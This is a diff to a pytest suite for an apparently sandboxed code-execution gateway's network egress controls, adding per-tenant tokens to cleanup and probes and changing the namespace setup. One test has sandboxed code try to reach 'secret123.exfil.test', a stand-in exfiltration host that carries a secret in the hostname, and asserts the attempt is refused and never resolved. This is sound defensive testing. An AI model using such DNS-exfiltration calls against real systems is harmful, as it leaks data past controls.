@@ -194,15 +194,20 @@ def session(gw, network=None):
 def sessions_end_with_their_test(request):
     """Each test's sessions are deleted after it (the gateway's cap is small)."""
     yield
-    if "gw" in request.fixturenames:
-        gw = request.getfixturevalue("gw")
-        while gw.sessions:
-            gw.api("DELETE", f"/v1/sessions/{gw.sessions.pop()}", timeout=60)
+    for name in ("gw", "ns_gw"):
+        if name in request.fixturenames:
+            gw = request.getfixturevalue(name)
+            while gw.sessions:
+                sid = gw.sessions.pop()
+                sid, token = sid if isinstance(sid, tuple) else (sid, None)
+                headers = {"Authorization": f"token {token}"} if token else {}
+                gw.api("DELETE", f"/v1/sessions/{sid}", headers=headers, timeout=60)
 
 
-def probe(gw, sid, code):
+def probe(gw, sid, code, token=None):
+    headers = {"Authorization": f"token {token}"} if token else {}
     r = gw.api("POST", f"/v1/sessions/{sid}/execute", json={"code": code + "\nimport json as _j\nprint('@@' + _j.dumps(result))",
-                                                            "timeout_s": 120}, timeout=240)
+                                                            "timeout_s": 120}, headers=headers, timeout=240)
     assert r.status_code == 200, r.text
     out = r.json()
     lines = [l for l in out["stdout"].splitlines() if l.startswith("@@")]
@@ -635,7 +640,7 @@ CAPPED_TOKEN = "capped-token-" + uuid.uuid4().hex[:8]
 def ns_gw(tmp_path_factory):
     """A gateway (runc) in a network namespace of its own with a resolv.conf
     of its own (a private mount namespace): the namespace has a dummy
-    interface with a public-looking address, the gateway's own, and our name
+    address that looks public on its interface, the gateway's own, and our name
     server on its loopback. Reached over the namespace's veth."""
     import ctypes
     if os.geteuid() != 0 or shutil.which("runc") is None:
@@ -647,9 +652,9 @@ def ns_gw(tmp_path_factory):
     procs = []
     try:
         ip = ["ip", "-n", ns.name]
-        subprocess.run(ip + ["link", "add", "cgdummy0", "type", "dummy"], check=True)
-        subprocess.run(ip + ["addr", "add", f"{PUBLIC_LOOKING}/32", "dev", "cgdummy0"], check=True)
-        subprocess.run(ip + ["link", "set", "cgdummy0", "up"], check=True)
+        # A second address on the namespace's end of the veth (this kernel has
+        # no dummy interfaces): in the namespace only, routed nowhere else.
+        subprocess.run(ip + ["addr", "add", f"{PUBLIC_LOOKING}/32", "dev", ns.ns_if], check=True)
         # Nothing in the namespace routes anywhere but its /30 and itself.
         routes = subprocess.run(ip + ["-j", "route"], capture_output=True, text=True, check=True).stdout
         assert "default" not in routes, routes
@@ -704,10 +709,11 @@ def ns_gw(tmp_path_factory):
 
 
 def ns_session(g, network, token=None):
+    """A session on the namespaced gateway (deleted after the test, as its owner)."""
     headers = {"Authorization": f"token {token}"} if token else {}
     r = g.api("POST", "/v1/sessions", json={"timeout_s": 120, "network": network}, headers=headers, timeout=180)
     assert r.status_code == 201, r.text
-    g.sessions.append(r.json()["id"])
+    g.sessions.append((r.json()["id"], token))
     return r.json()["id"]
 
 
@@ -716,7 +722,7 @@ def test_m1_a_name_outside_the_maximum_is_never_looked_up(ns_gw):
     # The tenant's maximum is pypi.test; the session adds a public address (a CIDR entry).
     sid = ns_session(g, {"allow": ["pypi.test", "1.1.1.1"]}, token=CAPPED_TOKEN)
     res = probe(g, sid, RAW + "result = {'exfil': connect('secret123.exfil.test:443'), "
-                              "'inside': connect('pypi.test:443')}")
+                              "'inside': connect('pypi.test:443')}", token=CAPPED_TOKEN)
     queried = g.dns_log.read_text()
     # The name inside the maximum was looked up (our server is the one asked) ...
     assert "pypi.test" in queried, queried
@@ -724,7 +730,8 @@ def test_m1_a_name_outside_the_maximum_is_never_looked_up(ns_gw):
     # ... and the one outside it never left the host.
     assert res["exfil"]["status"] == 403, res
     assert "exfil" not in queried, queried
-    log = g.api("GET", f"/v1/sessions/{sid}/network/log").json()["connections"]
+    log = g.api("GET", f"/v1/sessions/{sid}/network/log",
+                headers={"Authorization": f"token {CAPPED_TOKEN}"}).json()["connections"]
     assert any(c["host"] == "secret123.exfil.test" and c["verdict"] == "refused" for c in log), log
 
 
@@ -788,11 +795,11 @@ def test_m2_the_hosts_own_address_is_refused(ns_gw):
     for key in ("connect", "get"):
         assert res[key]["status"] == 403 and "own address" in res[key]["body"], (key, res[key])
     # An address the host gains later is its own too (netlink's RTM_NEWADDR).
-    subprocess.run(["ip", "-n", g.ns.name, "addr", "add", "192.88.99.8/32", "dev", "cgdummy0"], check=True)
+    subprocess.run(["ip", "-n", g.ns.name, "addr", "add", "192.88.99.8/32", "dev", g.ns.ns_if], check=True)
     try:
         res = probe(g, sid, RAW + "result = connect('192.88.99.8:18080')")
     finally:
-        subprocess.run(["ip", "-n", g.ns.name, "addr", "del", "192.88.99.8/32", "dev", "cgdummy0"], check=True)
+        subprocess.run(["ip", "-n", g.ns.name, "addr", "del", "192.88.99.8/32", "dev", g.ns.ns_if], check=True)
     assert res["status"] == 403 and "own address" in res["body"], res
     metrics = g.api("GET", "/metrics").text
     assert "cellgate_egress_host_addresses " in metrics
